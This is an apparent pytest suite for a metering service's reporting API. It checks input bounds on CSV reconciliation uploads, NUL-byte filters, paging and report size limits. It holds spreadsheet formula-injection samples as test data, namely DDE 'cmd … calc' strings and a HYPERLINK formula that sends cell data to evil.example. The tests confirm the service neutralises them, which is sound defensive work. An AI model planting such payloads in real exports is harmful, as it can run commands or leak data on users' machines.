"""Reports against hostile input: numbers and text in uploaded exports, filters a database
cannot compare, cells a spreadsheet would run as formulas, and reports too large to read."""

import asyncio
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from metering.db import Database
from metering.reports.cells import cell
from tests.reports.test_reconciliation import HEADER
from tests.reports.test_spend import hold_spec, ledger_event, reserve_and_settle

# --- reconciliation files --------------------------------------------------------------------

GOOD = "2025-01-01,{p},m,10,5,0.001,a"


@pytest.fixture
def provider() -> str:
    return f"prov-{uuid.uuid4().hex[:8]}"


def upload(api, name: str, lines: list[str], **params):
    body = "\n".join([HEADER, *lines]).replace("{p}", name) + "\n"
    return api.request(
        "POST",
        "/v1/reconciliations",
        params={"provider": name, **params},
        content=body.encode(),
        headers={"content-type": "text/csv"},
    )


@pytest.mark.parametrize(
    ("row", "param", "says"),
    [
        ("2025-01-01,{p},m,10,5,1e999999,a", "cost", "an exponent of at most 4 digits"),
        ("2025-01-01,{p},m,10,5,1e99999999,a", "cost", "an exponent of at most 4 digits"),
        ("2025-01-01,{p},m,10,5,1e9999,a", "cost", "cost must be at most"),
        ("2025-01-01,{p},m,10,5,0." + "0" * 70 + "1,a", "cost", "longer than 64 characters"),
        ("2025-01-01,{p},m,10,5,\u00b2,a", "cost", "must be a decimal number"),
        ("2025-01-01,{p},m,\u00b2,5,0.001,a", "prompt_tokens", "whole number >= 0"),
        ("2025-01-01,{p},m,10,\u0663,0.001,a", "completion_tokens", "whole number >= 0"),
        ("2025-01-01,{p},m," + "9" * 5000 + ",5,0.001,a", "prompt_tokens", "at most"),
        ("2025-01-01,{p},m,10,1" + "0" * 15 + "1,0.001,a", "completion_tokens", "at most"),
        ("2025-01-01,{p},m,-10,5,0.001,a", "prompt_tokens", "whole number >= 0"),
        ("3000-01-01,{p},m,10,5,0.001,a", "date", "from 2000-01-01 to 2999-12-31"),
        ("1999-12-31,{p},m,10,5,0.001,a", "date", "from 2000-01-01 to 2999-12-31"),
        ("2025-01-01,{p},m\x00,10,5,0.001,a", "model", "control characters"),
        ("2025-01-01,{p},m,10,5,0.001,a\x00b", "upstream_id", "control characters"),
        ("2025-01-01,{p}," + "m" * 201 + ",10,5,0.001,a", "model", "longer than 200"),
        ("2025-01-01,{p},m,10,5,0.001," + "a" * 201, "upstream_id", "longer than 200"),
    ],
)
def test_an_unbounded_value_in_an_export_is_400_naming_field_and_line(
    api, provider, row, param, says
):
    response = upload(api, provider, [GOOD, GOOD.replace(",a", ",b"), row])
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert (error["code"], error["param"]) == ("invalid_request", param)
    assert error["message"].startswith("line 4: "), error["message"]
    assert says in error["message"], error["message"]


def test_exact_bounds_of_an_export_are_accepted(api, provider):
    row = f"2025-01-01,{{p}},m,{10**15},0,{10**12},{'i' * 200}"
    response = upload(api, provider, [row, "2999-12-31,{p},m,0,0,1e-6,"])
    assert response.status_code == 201, response.text
    [first, last] = response.json()["rows"]
    assert first["provider_side"]["prompt_tokens"] == 10**15
    assert Decimal(first["provider_side"]["cost"]) == Decimal(10**12)
    assert (last["day"], Decimal(last["provider_side"]["cost"])) == ("2999-12-31", Decimal("1e-6"))


@pytest.mark.parametrize(
    ("params", "param"),
    [
        ({"provider": "a\x00b"}, "provider"),
        ({"tolerance": "1e99999999"}, "tolerance"),
        ({"tolerance": "\u00b2"}, "tolerance"),
    ],
)
def test_a_bad_reconciliation_parameter_is_400_naming_it(api, provider, params, param):
    response = upload(api, provider, [GOOD], **params)
    assert response.status_code == 400, response.text
    assert response.json()["error"]["param"] == param


def test_a_reconciliation_id_no_row_can_have_is_404(api):
    for rec_id in ("rec_a%00b", "rec_" + "x" * 5000):
        response = api.request("GET", f"/v1/reconciliations/{rec_id}")
        assert response.status_code == 404, response.text
        assert response.json()["error"]["code"] == "not_found"


# --- filters ---------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/v1/usage", "/v1/spend"])
@pytest.mark.parametrize("param", ["team_id", "user_id", "token_id", "model", "provider"])
def test_a_filter_with_a_nul_is_400_naming_it(api, path, param):
    response = api.request("GET", path, params={param: "a\x00b"})
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert (error["code"], error["param"]) == ("invalid_request", param)


def test_a_cursor_hiding_a_nul_is_400(api):
    import base64

    cursor = base64.urlsafe_b64encode(b"2026-01-01T00:00:00Z|evt\x00x").decode()
    response = api.request("GET", "/v1/usage", params={"cursor": cursor})
    assert response.status_code == 400, response.text
    assert response.json()["error"]["param"] == "cursor"


# --- CSV cells -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("+12", "+12"),
        ("-", "'-"),
        ("stop", "stop"),
        ("a=1", "a=1"),
        (None, ""),
        (-3, -3),
        (True, True),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(value, written):
    assert cell(value) == written


FORMULAS = {
    "upstream_id": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "finish_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_event(api):
    """An event settled through the real settle path with upstream text that is a formula."""
    team, user, token = api.principal()
    route = ("gpt-sim", "=cmd|' /C calc'!A0", "-1+1", 150_000, 75_000, 600_000)
    spec = hold_spec(team["id"], user["id"], token["id"], route)
    created = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
    event = ledger_event(spec, created, 100, 10, upstream_id=FORMULAS["upstream_id"])
    event["finish_reason"] = FORMULAS["finish_reason"]

    async def settle() -> None:
        db = Database(api.settings.database_url, pool_size=2)
        try:
            await reserve_and_settle(db, spec, event)
        finally:
            await db.dispose()

    asyncio.run(settle())
    return token, event


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_usage_csv_neutralises_formulas_from_upstreams(api, formula_event):
    token, event = formula_event
    response = api.request("GET", "/v1/usage", params={"format": "csv", "token_id": token["id"]})
    assert response.status_code == 200, response.text
    [row] = rows_of(response.text)
    assert row["upstream_id"] == "'" + FORMULAS["upstream_id"]
    assert row["finish_reason"] == "'" + FORMULAS["finish_reason"]
    assert row["provider"] == "'=cmd|' /C calc'!A0"
    assert row["upstream_model"] == "'-1+1"
    assert row["cost"] == "0.000021"  # ours, a number: untouched
    assert row["prompt_tokens"] == "100"
    # JSON is data, not a sheet: the same text as stored.
    [out] = api.events(token_id=token["id"])
    assert out["upstream_id"] == FORMULAS["upstream_id"]


def test_spend_csv_neutralises_formulas_in_group_keys(api, formula_event):
    token, _ = formula_event
    params = {"format": "csv", "token_id": token["id"], "group_by": "provider,model"}
    response = api.request("GET", "/v1/spend", params=params)
    assert response.status_code == 200, response.text
    [row] = rows_of(response.text)
    assert (row["provider"], row["model"], row["requests"]) == (
        "'=cmd|' /C calc'!A0",
        "gpt-sim",
        "1",
    )
    assert row["cost"] == "0.000021"


# --- paging of large reports -----------------------------------------------------------------


@pytest.fixture(scope="module")
def hours(api):
    """One token's 30 events, one an hour: a report by hour has 30 rows."""
    team, user, token = api.principal()
    route = ("gpt-sim", "sim-openai", "sim/gpt", 150_000, 75_000, 600_000)
    first = datetime(2025, 3, 1, tzinfo=UTC) + timedelta(days=uuid.uuid4().int % 300)

    async def settle() -> None:
        db = Database(api.settings.database_url, pool_size=2)
        try:
            for i in range(30):
                spec = hold_spec(team["id"], user["id"], token["id"], route)
                event = ledger_event(spec, first + timedelta(hours=i, minutes=10), 100 + i, 10)
                await reserve_and_settle(db, spec, event)
        finally:
            await db.dispose()

    asyncio.run(settle())
    params = {
        "token_id": token["id"],
        "group_by": "hour",
        "start": first.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "end": (first + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
    }
    return first, params


def test_a_report_is_paged_in_key_order_with_totals_over_every_page(api, hours):
    first, params = hours
    seen, page = [], 1
    while page is not None:
        response = api.request("GET", "/v1/spend", params={**params, "limit": 7, "page": page})
        assert response.status_code == 200, response.text
        body = response.json()
        assert (body["row_count"], body["limit"], body["page"]) == (30, 7, page)
        assert response.headers["x-row-count"] == "30"
        assert body["total"]["requests"] == 30
        assert body["total"]["prompt_tokens"] == sum(100 + i for i in range(30))
        assert len(body["rows"]) == (7 if page < 5 else 2)
        assert body["next_page"] == (page + 1 if page < 5 else None)
        assert response.headers.get("x-next-page") == (str(page + 1) if page < 5 else None)
        seen.extend(body["rows"])
        page = body["next_page"]
    expected = [(first + timedelta(hours=i)).strftime("%Y-%m-%dT%H:00:00Z") for i in range(30)]
    assert [r["hour"] for r in seen] == expected
    assert [r["prompt_tokens"] for r in seen] == [100 + i for i in range(30)]


def test_a_page_after_the_last_is_empty_with_the_totals(api, hours):
    _, params = hours
    body = api.ok("GET", "/v1/spend", params={**params, "limit": 10, "page": 4})
    assert (body["rows"], body["row_count"], body["next_page"]) == ([], 30, None)
    assert body["total"]["requests"] == 30


def test_a_csv_report_is_paged_alike(api, hours):
    first, params = hours
    response = api.request("GET", "/v1/spend", params={**params, "format": "csv", "limit": 25})
    assert response.status_code == 200, response.text
    assert (response.headers["x-row-count"], response.headers["x-next-page"]) == ("30", "2")
    assert len(rows_of(response.text)) == 25
    page2 = api.request(
        "GET", "/v1/spend", params={**params, "format": "csv", "limit": 25, "page": 2}
    )
    rows = rows_of(page2.text)
    assert [r["prompt_tokens"] for r in rows] == [str(100 + i) for i in range(25, 30)]
    assert "x-next-page" not in page2.headers


def test_the_default_page_is_10000_rows_and_the_largest_100000(api, hours):
    _, params = hours
    assert api.ok("GET", "/v1/spend", params=params)["limit"] == 10_000
    assert api.ok("GET", "/v1/spend", params={**params, "limit": 100_000})["limit"] == 100_000
    response = api.request("GET", "/v1/spend", params={**params, "limit": 100_001})
    assert response.status_code == 400
    assert response.json()["error"]["param"] == "limit"


# --- reports too large to read ---------------------------------------------------------------


def _span(first: datetime, hours: int) -> dict:
    return {
        "start": first.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "end": (first + timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ"),
    }


@pytest.mark.parametrize("group_by", ["hour", "token,model,hour"])
def test_a_report_that_could_hold_more_than_100000_rows_is_400_naming_the_limit(
    api, hours, group_by
):
    first, params = hours
    span = _span(first, 100_001)  # 100,001 hours x 1 token x 1 model
    response = api.request("GET", "/v1/spend", params={**params, **span, "group_by": group_by})
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert (error["type"], error["code"], error["param"]) == (
        "invalid_request_error",
        "report_too_large",
        "group_by",
    )
    assert "100,001 hours" in error["message"]
    assert "a report holds at most 100,000" in error["message"]


@pytest.mark.parametrize("group_by", ["hour", "token,model,hour"])
def test_a_report_at_the_limit_is_answered(api, hours, group_by):
    first, params = hours
    span = _span(first, 100_000)
    body = api.ok("GET", "/v1/spend", params={**params, **span, "group_by": group_by})
    assert (body["row_count"], body["total"]["requests"]) == (30, 30)
